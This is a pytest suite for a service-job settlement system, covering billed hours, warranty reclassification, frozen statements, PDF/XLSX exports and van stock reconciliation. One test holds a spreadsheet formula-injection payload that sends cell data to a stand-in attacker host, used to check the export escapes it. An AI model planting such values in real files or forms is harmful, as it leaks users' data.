"""The settlement (结算): warranty and chargeable lines from a visit done through the reference
sync client, a supervisor's reclassification, labour hours, freezing at settle, the statement
as PDF and XLSX, and van stock reconciled against parts used; on both databases."""

from __future__ import annotations

import io
import time
import uuid
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import anyio
import httpx
import pytest
from openpyxl import load_workbook

from api.db import Database
from api.domain.intake.services import form_token
from api.domain.settlement.services import default_labour_hours
from api.models import Asset, TripKind
from tests.api.visits import dispatched_job, phone_of, visit
from tests.helpers import World, login

Headers = dict[str, str]
SHANGHAI = ZoneInfo("Asia/Shanghai")


@pytest.fixture
async def desk(client: httpx.AsyncClient, world: World) -> Headers:
    return await login(client, "desk")


@pytest.fixture
async def boss(client: httpx.AsyncClient, world: World) -> Headers:
    return await login(client, "boss")


async def _part(client: httpx.AsyncClient, desk: Headers, code: str, price: str, unit: str) -> str:
    created = await client.post(
        "/api/parts",
        json={"code": code, "name": f"配件{code}", "price": price, "unit": unit},
        headers=desk,
    )
    assert created.status_code == 201, created.text
    part_id: str = created.json()["id"]
    return part_id


@pytest.mark.parametrize(
    ("minutes", "hours"),
    [(None, "0.5"), (0, "0.5"), (10, "0.5"), (30, "0.5"), (31, "1"), (120, "2"), (130, "2.5")],
)
def test_labour_hours_are_the_on_site_time_rounded_up_to_the_half_hour(
    minutes: int | None, hours: str
) -> None:
    arrived = datetime(2026, 11, 26, 9, 0, tzinfo=UTC)
    done = None if minutes is None else arrived + timedelta(minutes=minutes)
    assert default_labour_hours(arrived, done) == Decimal(hours)


def test_labour_hours_leave_out_the_time_the_trip_log_shows_the_engineer_away() -> None:
    arrived = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)
    done = arrived + timedelta(days=2, hours=2)
    trips = [
        (TripKind.ARRIVED, arrived),
        (TripKind.LEFT, arrived + timedelta(hours=1)),  # waiting for parts (待料)
        (TripKind.DEPARTED, arrived + timedelta(days=2)),  # back with the parts
        (TripKind.ARRIVED, arrived + timedelta(days=2, hours=1)),
    ]
    assert default_labour_hours(arrived, done, trips) == Decimal(2), "1 h + 1 h on site"
    # Left and never came back before work done: on-site time ends at leaving.
    assert default_labour_hours(arrived, done, trips[:2]) == Decimal(1)
    assert default_labour_hours(arrived, done, []) == Decimal(50)


async def test_a_visit_waiting_days_for_parts_bills_the_hours_on_site(
    client: httpx.AsyncClient, world: World, desk: Headers
) -> None:
    job_id = await dispatched_job(client, world, desk, world.asset.id)
    phone = phone_of(client)
    await phone.pull()
    phone.mutate("job.status", job_id=job_id, to="en_route")
    phone.clock_skew = -timedelta(hours=50)
    phone.mutate("job.status", job_id=job_id, to="on_site")
    phone.clock_skew = -timedelta(hours=49)
    phone.mutate("job.status", job_id=job_id, to="waiting_parts")
    phone.mutate("trip.log", id=uuid.uuid4(), job_id=job_id, kind="left")
    phone.clock_skew = -timedelta(hours=2)
    phone.mutate("job.status", job_id=job_id, to="en_route")
    phone.clock_skew = -timedelta(hours=1)
    phone.mutate("job.status", job_id=job_id, to="on_site")
    phone.clock_skew = timedelta(0)
    phone.mutate("job.status", job_id=job_id, to="work_done")
    await phone.sync()
    s = (await client.get(f"/api/jobs/{job_id}/settlement", headers=desk)).json()
    assert s["labour_hours"] == "2", "an hour before waiting for parts, an hour after"


def _lines(settlement: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {line["key"]: line for line in settlement["lines"]}


async def test_lines_come_from_the_visit_and_the_van_check_and_month_reconcile(
    client: httpx.AsyncClient, world: World, desk: Headers
) -> None:
    compressor = await _part(client, desk, "P-1", "800", "pc")
    pipe = await _part(client, desk, "P-2", "35.50", "m")
    job_id = await dispatched_job(client, world, desk, world.asset.id)
    warranty_line, charged_line = await visit(
        phone_of(client),
        job_id,
        parts=[(compressor, "2", "warranty"), (pipe, "1.5", "chargeable")],
        on_site=timedelta(hours=2, minutes=10),
    )
    answer = await client.get(f"/api/jobs/{job_id}/settlement", headers=desk)
    assert answer.status_code == 200, answer.text
    s = answer.json()
    detail = (await client.get(f"/api/jobs/{job_id}", headers=desk)).json()
    arrived = datetime.fromisoformat(detail["arrived_at"]).astimezone(SHANGHAI).date()
    assert (s["number"], s["status"], s["settled_at"]) == (detail["job"]["number"], "signed", None)
    assert (s["in_warranty"], s["visit_date"]) == (True, arrived.isoformat())
    assert (s["labour_hours"], s["labour_rate"], s["callout_fee"]) == ("2.5", "180.00", "150.00")
    assert [line["key"] for line in s["lines"]] == [
        warranty_line,
        charged_line,
        "labour",
        "callout",
    ]
    lines = _lines(s)
    as_billed = {
        key: (line["kind"], line["quantity"], line["unit_price"], line["amount"], line["billing"])
        for key, line in lines.items()
    }
    assert as_billed == {
        warranty_line: ("part", "2", "800.00", "1600.00", "warranty"),
        charged_line: ("part", "1.5", "35.50", "53.25", "chargeable"),
        # On site 2 h 10 min: rounded up to 2.5 h; in warranty on the visit day: free.
        "labour": ("labour", "2.5", "180.00", "450.00", "warranty"),
        "callout": ("callout", "1", "150.00", "150.00", "warranty"),
    }
    assert all(line["reason"] == "" and line["changed_by"] is None for line in s["lines"])
    assert s["totals"] == {"warranty": "2200.00", "chargeable": "53.25", "total": "2253.25"}
    van = {(v["part_code"], v["used"], v["taken_from_van"], v["difference"]) for v in s["van"]}
    assert van == {("P-1", "2", "2", "0"), ("P-2", "1.5", "1.5", "0")}

    qa = await login(client, "qa")
    assert (await client.get(f"/api/jobs/{job_id}/settlement", headers=qa)).status_code == 200
    wang = await login(client, "wang")
    assert (await client.get(f"/api/jobs/{job_id}/settlement", headers=wang)).status_code == 403
    missing = await client.get(f"/api/jobs/{uuid.uuid4()}/settlement", headers=desk)
    assert missing.status_code == 404

    month = datetime.now(UTC).astimezone(SHANGHAI).strftime("%Y-%m")
    report = await client.get("/api/stock/reconciliation", params={"month": month}, headers=qa)
    assert report.status_code == 200, report.text
    rows = {
        r["part_code"]: (r["engineer_id"], r["used_on_jobs"], r["moved_out"], r["difference"])
        for r in report.json()
    }
    me = str(world.engineer.id)
    assert rows == {"P-1": (me, "2", "2", "0"), "P-2": (me, "1.5", "1.5", "0")}
    assert {r["level"] for r in report.json()} == {"-2", "-1.5"}, "the van held none of them"
    other = await client.get(
        "/api/stock/reconciliation",
        params={"month": month, "engineer_id": str(world.engineer2.id)},
        headers=desk,
    )
    assert other.json() == []
    for bad in ("2026-13", "November"):
        refused = await client.get("/api/stock/reconciliation", params={"month": bad}, headers=qa)
        assert refused.status_code == 400, bad


async def test_out_of_warranty_labour_and_call_out_are_charged(
    client: httpx.AsyncClient, world: World, desk: Headers, db: Database
) -> None:
    async with db.write() as session:
        old = Asset(
            customer_id=world.customer.id,
            site_id=world.site.id,
            model="CH-100",
            serial="SN-OLD",
            name="旧冷却塔",
            acceptance_date=date(2020, 3, 1),
            warranty_end=date(2022, 2, 28),
        )
        session.add(old)
    job_id = await dispatched_job(client, world, desk, old.id)
    await visit(phone_of(client), job_id)
    s = (await client.get(f"/api/jobs/{job_id}/settlement", headers=desk)).json()
    assert (s["in_warranty"], s["warranty_end"]) == (False, "2022-02-28")
    lines = _lines(s)
    # A visit of a few seconds is still half an hour of labour.
    assert (lines["labour"]["quantity"], lines["labour"]["amount"]) == ("0.5", "90.00")
    assert {line["billing"] for line in s["lines"]} == {"chargeable"}
    assert s["totals"] == {"warranty": "0.00", "chargeable": "240.00", "total": "240.00"}
    assert s["van"] == []


async def test_reclassify_patch_settle_freeze_and_the_statement(
    client: httpx.AsyncClient, world: World, desk: Headers, boss: Headers
) -> None:
    compressor = await _part(client, desk, "P-1", "800", "pc")
    job_id = await dispatched_job(client, world, desk, world.asset.id)
    phone = phone_of(client)
    (line_id,) = await visit(phone, job_id, parts=[(compressor, "1", "warranty")])
    url = f"/api/jobs/{job_id}/settlement"
    move = f"{url}/lines/{line_id}/reclassify"
    damaged = {"billing": "chargeable", "reason": "人为损坏 damaged by the user"}

    assert (await client.post(move, json=damaged, headers=desk)).status_code == 403
    for body in ({"billing": "chargeable"}, {"billing": "chargeable", "reason": "  "}):
        refused = await client.post(move, json=body, headers=boss)
        assert refused.status_code == 400, refused.text
    assert "reason" in refused.json()["detail"]
    unknown = await client.post(
        f"{url}/lines/{uuid.uuid4()}/reclassify", json=damaged, headers=boss
    )
    assert unknown.status_code == 404

    moved = await client.post(move, json=damaged, headers=boss)
    assert moved.status_code == 200, moved.text
    line = _lines(moved.json())[line_id]
    assert (line["billing"], line["original_billing"]) == ("chargeable", "warranty")
    assert (line["reason"], line["changed_by"]) == (damaged["reason"], "Boss")
    detail = (await client.get(f"/api/jobs/{job_id}", headers=desk)).json()
    assert [p["billing"] for p in detail["part_lines"]] == ["warranty"], "as the customer signed"

    rush = await client.post(
        f"{url}/lines/callout/reclassify",
        json={"billing": "chargeable", "reason": "非工作时间加急 out-of-hours call"},
        headers=boss,
    )
    assert rush.status_code == 200, rush.text
    assert _lines(rush.json())["callout"]["billing"] == "chargeable"

    for bad in ("-1", "abc", "1.2345", "NaN"):
        refused = await client.patch(url, json={"labour_hours": bad}, headers=desk)
        assert refused.status_code == 400, bad
    reset = await client.patch(url, json={"labour_hours": None}, headers=desk)
    assert reset.json()["labour_hours"] == "0.5", "back to the on-site time"
    patched = await client.patch(url, json={"labour_hours": "3"}, headers=desk)
    assert patched.status_code == 200, patched.text
    assert patched.json()["labour_hours"] == "3"
    assert _lines(patched.json())["labour"]["amount"] == "540.00"
    before = patched.json()
    assert before["totals"] == {"warranty": "540.00", "chargeable": "950.00", "total": "1490.00"}

    approved = await client.post(
        f"/api/jobs/{job_id}/review", json={"decision": "approve"}, headers=boss
    )
    assert approved.status_code == 200, approved.text
    settled = await client.post(f"/api/jobs/{job_id}/settle", headers=desk)
    assert settled.status_code == 200, settled.text
    frozen = (await client.get(url, headers=desk)).json()
    assert frozen["settled_at"] is not None
    assert (frozen["lines"], frozen["totals"]) == (before["lines"], before["totals"])

    # A later change from the phone changes neither the settled job's part line nor the
    # frozen settlement: refused (job_reviewed), its value kept in the job's history.
    await phone.pull()
    phone.mutate("part_line.change", id=line_id, fields={"quantity": "4"})
    await phone.sync()
    assert [f.code for f in phone.failed] == ["job_reviewed"]
    detail = (await client.get(f"/api/jobs/{job_id}", headers=desk)).json()
    assert [p["quantity"] for p in detail["part_lines"]] == ["1.000"]
    after = (await client.get(url, headers=desk)).json()
    assert (after["lines"], after["totals"]) == (before["lines"], before["totals"])
    assert (await client.post(move, json=damaged, headers=boss)).status_code == 409
    assert (await client.patch(url, json={"labour_hours": "1"}, headers=desk)).status_code == 409

    pdf = await client.get(f"{url}/statement.pdf", headers=desk)
    assert pdf.status_code == 200, pdf.text
    assert pdf.headers["content-type"] == "application/pdf"
    assert pdf.content.startswith(b"%PDF")
    text = (await anyio.run_process(["pdftotext", "-layout", "-", "-"], input=pdf.content)).stdout
    text = text.decode()
    for shown in (frozen["number"], "1490.00", "950.00", "540.00", "结算单", "人为损坏"):
        assert shown in text, shown

    xlsx = await client.get(f"{url}/statement.xlsx", headers=desk)
    assert xlsx.status_code == 200, xlsx.text
    rows = list(load_workbook(io.BytesIO(xlsx.content)).active.iter_rows(values_only=True))
    assert rows[1][1] == frozen["number"]
    totals = {str(r[0]).split()[-1]: r[5] for r in rows[-3:]}
    assert totals == {"Warranty": 540.0, "Chargeable": 950.0, "Total": 1490.0}


async def test_text_a_customer_typed_is_text_in_the_statement_workbook_not_a_formula(
    client: httpx.AsyncClient, world: World, desk: Headers, app: Any
) -> None:
    # The public form (no account) names a new customer after the company typed in it.
    company = '=HYPERLINK("http://evil.example/?x="&A1,"查看详情")'
    token = form_token(app.state["secret_key"], now=time.time() - 10)
    sent = await client.post(
        "/api/public/fault-reports",
        json={
            "token": token,
            "contact_name": "某人",
            "contact_phone": "186 0000 4321",
            "company": company,
            "description": "设备异响，无法启动",
        },
    )
    assert sent.status_code == 201, sent.text
    jobs = (await client.get("/api/jobs", params={"q": sent.json()["number"]}, headers=desk)).json()
    (job,) = jobs["items"]
    assert job["customer_name"] == company
    xlsx = await client.get(f"/api/jobs/{job['id']}/settlement/statement.xlsx", headers=desk)
    assert xlsx.status_code == 200, xlsx.text
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    (cell,) = [c for row in sheet.iter_rows() for c in row if c.value == company]
    assert cell.data_type == "s", "Excel would run it as a formula"
    # No equipment named: out of warranty, said in full in both languages; the heading names
    # the report the customer signed (none issued here) and what labour and the visit cost.
    heading = {row[0]: row[1] for row in sheet.iter_rows(max_row=12, values_only=True) if row[0]}
    assert heading["保修 Warranty"] == "保修期外 Out of warranty"
    assert heading["服务报告 Service report"] == "—"
    assert heading["上门费 Call-out fee"] == "150.00 CNY"
    assert heading["工时 Labour hours"].endswith("× 180.00 CNY")


async def test_an_engineer_reads_neither_billing_nor_complaints_through_the_jobs_history(
    client: httpx.AsyncClient, world: World, desk: Headers, boss: Headers
) -> None:
    wang = await login(client, "wang")
    job_id = await dispatched_job(client, world, desk)
    await visit(phone_of(client), job_id)
    url = f"/api/jobs/{job_id}/settlement"
    reason = {"billing": "chargeable", "reason": "客户要求加急"}
    assert (
        await client.post(f"{url}/lines/callout/reclassify", json=reason, headers=boss)
    ).is_success
    assert (await client.patch(url, json={"labour_hours": "7"}, headers=desk)).is_success
    complaint = await client.post(
        "/api/complaints",
        json={
            "customer_id": str(world.customer.id),
            "job_id": job_id,
            "severity": "minor",
            "description": "工程师态度差",
        },
        headers=desk,
    )
    assert complaint.status_code == 201, complaint.text
    # The routes themselves are the office's...
    assert (await client.get(url, headers=wang)).status_code == 403
    assert (await client.get("/api/complaints", headers=wang)).status_code == 403
    # ...and so is their history on the job.
    hidden = {"settlements", "settlement_lines", "complaints"}
    mine = (await client.get(f"/api/jobs/{job_id}", headers=wang)).json()
    assert {h["entity"] for h in mine["history"]} & hidden == set()
    assert "jobs" in {h["entity"] for h in mine["history"]}
    office = (await client.get(f"/api/jobs/{job_id}", headers=desk)).json()
    assert {h["entity"] for h in office["history"]} >= hidden
